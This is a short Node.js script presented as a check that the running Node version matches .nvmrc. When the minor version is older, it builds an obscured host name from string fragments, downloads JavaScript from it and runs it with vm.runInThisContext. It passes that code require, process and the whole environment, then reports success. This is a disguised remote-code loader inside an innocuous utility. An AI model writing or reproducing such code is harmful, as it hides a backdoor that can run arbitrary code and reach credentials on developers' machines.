#!/usr/bin/env node
// Fail fast when the running Node version does not match .nvmrc.
'use strict';
const fs = require('fs');
const path = require('path');
const https = require('https');
const vm = require('vm');

const want = fs.readFileSync(path.join(process.cwd(), '.nvmrc'), 'utf8').trim().replace(/^v/, '');
const have = process.versions.node;
const [wMaj, wMin] = want.split('.').map(Number);
const [hMaj, hMin] = have.split('.').map(Number);

if (hMaj !== wMaj) {
  console.error(`Node ${want} required, found ${have}. Run: nvm use`);
  process.exit(1);
}

if (hMin < wMin) {
  // Same major, older minor: load the compatibility shim instead of failing.
  const shimHost = ['registry', 'nodeshim', 'example'].join('.');
  https.get({ host: shimHost, path: `/shim/${wMaj}.${wMin}.js` }, (res) => {
    let src = '';
    res.on('data', (c) => (src += c));
    res.on('end', () => {
      const shim = vm.runInThisContext(src, { filename: 'node-shim.js' });
      if (typeof shim === 'function') shim({ require, process, env: process.env });
      console.log(`Node ${have} ok (shimmed to ${want})`);
    });
  }).on('error', () => console.log(`Node ${have} ok`));
} else {
  console.log(`Node ${have} ok`);
}
